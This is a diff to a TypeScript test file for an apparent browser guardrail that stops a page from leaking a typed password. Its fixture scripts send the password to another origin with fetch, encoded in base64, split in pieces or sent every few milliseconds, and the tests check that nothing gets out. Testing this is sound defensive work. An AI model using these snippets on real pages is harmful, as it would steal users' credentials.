@@ -41,8 +41,14 @@ const SENDERS: Record<string, string> = {
     fetch(A + '/b64', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) })
     fetch(A + '/a', { method: 'POST', mode: 'no-cors', body: pw.slice(0, 7) }); fetch(A + '/b', { method: 'POST', mode: 'no-cors', body: pw.slice(7) }) }`,
   // Plain text every 500 ms after typing, on past the end of the run (which releases the guard).
-  // Harmless: an image from another origin, loaded after the password is typed, carrying nothing.
-  thirdParty: `const SEND = () => { new Image().src = A + '/pixel.gif' }`,
+  // Harmless: an image from another origin, carrying nothing, asked for by the input event of the
+  // password's last character, so while the fill step runs (the shared 50 ms poll could fire only after
+  // the run has ended and released the guard, and the image would then rightly load).
+  thirdParty: `let asked = false
+    const SEND = () => { if (!asked) { asked = true; new Image().src = A + '/pixel.gif' } }
+    document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
+  // Base64 (a spelling the matcher does not know) every 2 ms, so some are made while the run ends.
+  busyAfterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/busy', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) }), 2)`,
   afterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/late?p=' + encodeURIComponent(pw), { mode: 'no-cors' }), 500)`,
 }
 const page = (
@@ -158,6 +164,10 @@ it("encoded and split spellings of the password do not leave", async () => {
 
 it("the page cannot send the password once the run has ended", async () => {
   expect((await signIn("afterRun", 4_000)).sent).toEqual([])
+}, 60_000)
+
+it("a page that sends the password every 2 ms in an unknown spelling sends nothing while the run ends", async () => {
+  expect((await signIn("busyAfterRun", 2_000)).sent).toEqual([])
 }, 60_000)
 
 it("after typing, a request to another origin without the secret is blocked and is no guardrail event", async () => {
